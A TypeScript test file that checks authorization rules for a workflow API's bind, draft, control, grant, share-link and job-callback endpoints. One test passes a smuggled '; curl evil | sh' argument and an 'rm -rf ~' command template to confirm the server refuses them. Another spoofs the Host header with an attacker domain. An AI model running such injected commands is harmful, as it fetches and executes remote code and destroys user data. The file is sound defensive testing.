/**
 * Authorization in token mode, one test per rule of docs/reliability.md's authorization table:
 * two operators (alice owns, bob does not), an observer (watcher) and an admin (root). Each
 * refusal is also checked to have written nothing. Temporal is down on purpose (test/helpers/token-app.ts):
 * a 503 on a run or control means the caller passed every check.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mintJobToken } from '../../src/domain/job-tokens';
import { serverSecret } from '../../src/sql/server-secrets';
import {
  bindRequest,
  commands,
  launchInstance,
  startTokenApp,
  tableCounts,
  type TokenApp,
  type Who,
} from '../helpers/token-app';

let t: TokenApp;
let aliceWf: number;
const V1 = '/api/v1';

beforeAll(async () => {
  t = await startTokenApp();
  const bound = await t.call('POST', `${V1}/bind`, { body: bindRequest('owned-by-alice'), as: 'alice' });
  expect(bound.status).toBe(200);
  aliceWf = bound.body.workflow_id;
});
afterAll(async () => t?.close());

/** Run `fn`, expect it refused with `status`, and every table exactly as before. */
async function refusedUnchanged(status: number, code: string, fn: () => Promise<{ status: number; body: any }>) {
  const before = await tableCounts(t.db);
  const answer = await fn();
  expect(answer.status, JSON.stringify(answer.body)).toBe(status);
  expect(answer.body.error.code).toBe(code);
  expect(await tableCounts(t.db)).toEqual(before);
  return answer;
}

describe('bind', () => {
  it("re-bind of another operator's workflow: 403 not_owner naming the owner, commands unchanged", async () => {
    const before = await commands(t.db, aliceWf);
    // Same tool, workflow_args and tasks (same identity), different op_args and command template.
    const hostile = bindRequest('owned-by-alice', {
      verbose: '; curl evil | sh',
      command: 'rm -rf ~ {location_id} {verbose}',
    });
    const refused = await refusedUnchanged(403, 'not_owner', () =>
      t.call('POST', `${V1}/bind`, { body: hostile, as: 'bob' }),
    );
    expect(refused.body.error.message).toMatch(/belongs to user alice/);
    expect(await commands(t.db, aliceWf)).toEqual(before);
    // The chunked path too.
    const { task_templates, tool, workflow, tasks } = hostile;
    const draft = await t.call('POST', `${V1}/bind/drafts`, { body: { tool, workflow, task_templates }, as: 'bob' });
    expect(draft.status).toBe(201);
    expect(
      (await t.call('POST', `${V1}/bind/drafts/${draft.body.draft_id}/tasks`, { body: { tasks }, as: 'bob' })).status,
    ).toBe(200);
    const commit = await t.call('POST', `${V1}/bind/drafts/${draft.body.draft_id}/commit`, { as: 'bob' });
    expect(commit.status).toBe(403);
    expect(commit.body.error.code).toBe('not_owner');
    expect(await commands(t.db, aliceWf)).toEqual(before);
  });

  it('re-bind by the owner, a grantee or an admin is allowed', async () => {
    const wf = (await t.call('POST', `${V1}/bind`, { body: bindRequest('rebind-allowed'), as: 'alice' })).body
      .workflow_id;
    for (const who of ['alice', 'root'] as Who[]) {
      const again = await t.call('POST', `${V1}/bind`, {
        body: bindRequest('rebind-allowed', { verbose: `-${who}` }),
        as: who,
      });
      expect(again.status, who).toBe(200);
      expect(again.body).toMatchObject({ workflow_id: wf, newly_created: false });
    }
    expect((await t.call('POST', `${V1}/bind`, { body: bindRequest('rebind-allowed'), as: 'bob' })).status).toBe(403);
    expect((await t.call('POST', `${V1}/workflows/${wf}/grants`, { body: { user: 'bob' }, as: 'alice' })).status).toBe(
      201,
    );
    const granted = await t.call('POST', `${V1}/bind`, {
      body: bindRequest('rebind-allowed', { verbose: '-bob' }),
      as: 'bob',
    });
    expect(granted.status).toBe(200);
    expect(Object.values(await commands(t.db, wf))[0]).toMatch(/-bob$/);
    // The workflow still belongs to alice.
    expect((await t.db.selectFrom('workflow').select('user').where('id', '=', wf).executeTakeFirstOrThrow()).user).toBe(
      'alice',
    );
  });

  it('observers may not bind or draft', async () => {
    await refusedUnchanged(403, 'forbidden', () =>
      t.call('POST', `${V1}/bind`, { body: bindRequest('watcher'), as: 'watcher' }),
    );
    const { tasks: _tasks, ...spec } = bindRequest('watcher-draft');
    await refusedUnchanged(403, 'forbidden', () => t.call('POST', `${V1}/bind/drafts`, { body: spec, as: 'watcher' }));
  });
});

describe('drafts belong to their creator', () => {
  it('chunks, commit and delete by anyone else: 404, nothing changed', async () => {
    const { tasks, ...spec } = bindRequest('alice-draft');
    const id = (await t.call('POST', `${V1}/bind/drafts`, { body: spec, as: 'alice' })).body.draft_id;
    for (const who of ['bob', 'root'] as Who[]) {
      await refusedUnchanged(404, 'not_found', () =>
        t.call('POST', `${V1}/bind/drafts/${id}/tasks`, { body: { tasks }, as: who }),
      );
      await refusedUnchanged(404, 'not_found', () => t.call('POST', `${V1}/bind/drafts/${id}/commit`, { as: who }));
      await refusedUnchanged(404, 'not_found', () => t.call('DELETE', `${V1}/bind/drafts/${id}`, { as: who }));
    }
    const added = await t.call('POST', `${V1}/bind/drafts/${id}/tasks`, { body: { tasks }, as: 'alice' });
    expect(added.body).toEqual({ received: 5, total: 5 });
    const deleted = await t.call('DELETE', `${V1}/bind/drafts/${id}`, { as: 'alice' });
    expect(deleted).toEqual({ status: 200, body: { draft_id: id, deleted: true, num_tasks: 5 } });
    expect(await t.db.selectFrom('bind_draft_chunk').select('seq').where('draft_id', '=', id).execute()).toEqual([]);
    expect((await t.call('POST', `${V1}/bind/drafts/${id}/commit`, { as: 'alice' })).status).toBe(404);
  });
});

/** Routes that act on a workflow: [method, path, body, status when allowed]. */
const CONTROLS: [string, (wf: number) => string, unknown, number][] = [
  ['POST', (wf) => `/workflows/${wf}/runs`, {}, 503],
  ['POST', (wf) => `/workflows/${wf}/pause`, undefined, 503],
  ['POST', (wf) => `/workflows/${wf}/unpause`, undefined, 503],
  ['POST', (wf) => `/workflows/${wf}/stop`, { mode: 'drain' }, 503],
  ['PUT', (wf) => `/workflows/${wf}/concurrency`, { limit: 3 }, 503],
  ['POST', (wf) => `/workflows/${wf}/tasks/set-status`, { status: 'D', template: 'agg', dry_run: true }, 200],
  ['POST', (wf) => `/workflows/${wf}/reset`, { keep_done: true }, 200],
  ['POST', (wf) => `/workflows/${wf}/share`, {}, 201],
];

describe('runs and controls', () => {
  it.each(CONTROLS)(
    '%s %s: owner and admin pass, another operator 403 not_owner, observer 403',
    async (method, route, body, allowed) => {
      const wf = (
        await t.call('POST', `${V1}/bind`, { body: bindRequest(`controls-${method}-${route(0)}`), as: 'alice' })
      ).body.workflow_id;
      const bob = await refusedUnchanged(403, 'not_owner', () =>
        t.call(method, `${V1}${route(wf)}`, { body, as: 'bob' }),
      );
      expect(bob.body.error.message).toMatch(/belongs to user alice/);
      await refusedUnchanged(403, 'forbidden', () => t.call(method, `${V1}${route(wf)}`, { body, as: 'watcher' }));
      for (const who of ['alice', 'root'] as Who[]) {
        const ok = await t.call(method, `${V1}${route(wf)}`, { body, as: who });
        expect(ok.status, `${who}: ${JSON.stringify(ok.body)}`).toBe(allowed);
      }
    },
  );

  it('a grantee passes the same checks as the owner', async () => {
    const wf = (await t.call('POST', `${V1}/bind`, { body: bindRequest('grantee-controls'), as: 'alice' })).body
      .workflow_id;
    await t.call('POST', `${V1}/workflows/${wf}/grants`, { body: { user: 'bob' }, as: 'alice' });
    for (const [method, route, body, allowed] of CONTROLS) {
      expect((await t.call(method, `${V1}${route(wf)}`, { body, as: 'bob' })).status, route(wf)).toBe(allowed);
    }
  });

  it("share links: revoking another's is 403; a link is built from JMT_PUBLIC_URL, never the Host header", async () => {
    const made = await t.call('POST', `${V1}/workflows/${aliceWf}/share`, { body: {}, as: 'alice' });
    expect(made.status).toBe(201);
    expect(made.body.url).toMatch(/^https:\/\/jobmon\.example\.org\/ui\/\?share=/);
    const spoofed = await t.app.request(`http://evil.example.com${V1}/workflows/${aliceWf}/share`, {
      method: 'POST',
      headers: { authorization: 'Bearer alice-token-1', host: 'evil.example.com', 'content-type': 'application/json' },
      body: '{}',
    });
    expect(((await spoofed.json()) as { url: string }).url).toMatch(/^https:\/\/jobmon\.example\.org\//);
    await refusedUnchanged(403, 'not_owner', () => t.call('DELETE', `${V1}/shares/${made.body.id}`, { as: 'bob' }));
    expect((await t.call('DELETE', `${V1}/shares/${made.body.id}`, { as: 'alice' })).status).toBe(200);
  });
});

describe('grants', () => {
  it('only the owner or an admin grants and revokes; a grantee cannot pass it on', async () => {
    const wf = (await t.call('POST', `${V1}/bind`, { body: bindRequest('grants-rule'), as: 'alice' })).body.workflow_id;
    await refusedUnchanged(403, 'not_owner', () =>
      t.call('POST', `${V1}/workflows/${wf}/grants`, { body: { user: 'bob' }, as: 'bob' }),
    );
    await refusedUnchanged(403, 'forbidden', () =>
      t.call('POST', `${V1}/workflows/${wf}/grants`, { body: { user: 'x' }, as: 'watcher' }),
    );
    expect((await t.call('POST', `${V1}/workflows/${wf}/grants`, { body: { user: 'bob' }, as: 'alice' })).status).toBe(
      201,
    );
    const passOn = await t.call('POST', `${V1}/workflows/${wf}/grants`, { body: { user: 'carol' }, as: 'bob' });
    expect(passOn.status).toBe(403);
    expect((await t.call('DELETE', `${V1}/workflows/${wf}/grants/bob`, { as: 'bob' })).status).toBe(403);
    expect((await t.call('POST', `${V1}/workflows/${wf}/grants`, { body: { user: 'dave' }, as: 'root' })).status).toBe(
      201,
    );
    expect((await t.call('DELETE', `${V1}/workflows/${wf}/grants/dave`, { as: 'alice' })).status).toBe(200);
  });

  it('a grant and its audit event are one write: a user name Postgres cannot store is 422 and writes neither', async () => {
    const wf = (await t.call('POST', `${V1}/bind`, { body: bindRequest('grant-surrogate'), as: 'alice' })).body
      .workflow_id;
    const refused = await refusedUnchanged(422, 'unpaired_surrogate', () =>
      t.call('POST', `${V1}/workflows/${wf}/grants`, { raw: '{"user":"bob\\ud800"}', as: 'alice' }),
    );
    expect(refused.body.error.field).toBe('user');
    const made = await t.call('POST', `${V1}/workflows/${wf}/grants`, { body: { user: 'bob' }, as: 'alice' });
    expect(made.status).toBe(201);
    const events = await t.db
      .selectFrom('workflow_event')
      .select(['action', 'result'])
      .where('workflow_id', '=', wf)
      .execute();
    expect(events).toEqual([{ action: 'grant', result: 'ok' }]);
  });
});

describe('wrapper callbacks', () => {
  it('heartbeat names its job: another distributor id is 409 wrong_job and keeps nothing alive', async () => {
    const wf = (await t.call('POST', `${V1}/bind`, { body: bindRequest('callbacks-heartbeat'), as: 'alice' })).body
      .workflow_id;
    const task = await t.db
      .selectFrom('task')
      .select('id')
      .where('workflow_id', '=', wf)
      .orderBy('id')
      .executeTakeFirstOrThrow();
    const { instanceId, batchId } = await launchInstance(t.db, wf, Number(task.id), '4242');
    const token = mintJobToken(await serverSecret(t.db, 'job_token_key'), batchId);
    const reportBy = async () =>
      (
        await t.db
          .selectFrom('task_instance')
          .select('report_by_date')
          .where('id', '=', instanceId)
          .executeTakeFirstOrThrow()
      ).report_by_date;
    const before = await reportBy();
    const wrong = await t.call('POST', `${V1}/task-instances/${instanceId}/heartbeat`, {
      body: { distributor_id: '9999' },
      as: token,
    });
    expect(wrong.status).toBe(409);
    expect(wrong.body.error.code).toBe('wrong_job');
    expect(await reportBy()).toEqual(before);
    const none = await t.call('POST', `${V1}/task-instances/${instanceId}/heartbeat`, { body: {}, as: token });
    expect(none.status).toBe(422);
    expect(none.body.error.field).toBe('distributor_id');
    const right = await t.call('POST', `${V1}/task-instances/${instanceId}/heartbeat`, {
      body: { distributor_id: '4242' },
      as: token,
    });
    expect(right).toEqual({ status: 200, body: { status: 'O' } });
    expect(await reportBy()).not.toEqual(before);
  });

  it('/done requires exit code 0: anything else is 422 and the instance is unchanged', async () => {
    const wf = (await t.call('POST', `${V1}/bind`, { body: bindRequest('callbacks-done'), as: 'alice' })).body
      .workflow_id;
    const task = await t.db
      .selectFrom('task')
      .select('id')
      .where('workflow_id', '=', wf)
      .orderBy('id')
      .executeTakeFirstOrThrow();
    const { instanceId, batchId } = await launchInstance(t.db, wf, Number(task.id), '77');
    const token = mintJobToken(await serverSecret(t.db, 'job_token_key'), batchId);
    const running = await t.call('POST', `${V1}/task-instances/${instanceId}/running`, {
      body: { distributor_id: '77', nodename: 'n1', process_id: 12 },
      as: token,
    });
    expect(running.status).toBe(200);
    for (const code of [1, -1, 137]) {
      await refusedUnchanged(422, 'invalid', () =>
        t.call('POST', `${V1}/task-instances/${instanceId}/done`, { body: { exit_code: code }, as: token }),
      );
    }
    const done = await t.call('POST', `${V1}/task-instances/${instanceId}/done`, { body: { exit_code: 0 }, as: token });
    expect(done).toEqual({ status: 200, body: { status: 'D' } });
  });
});
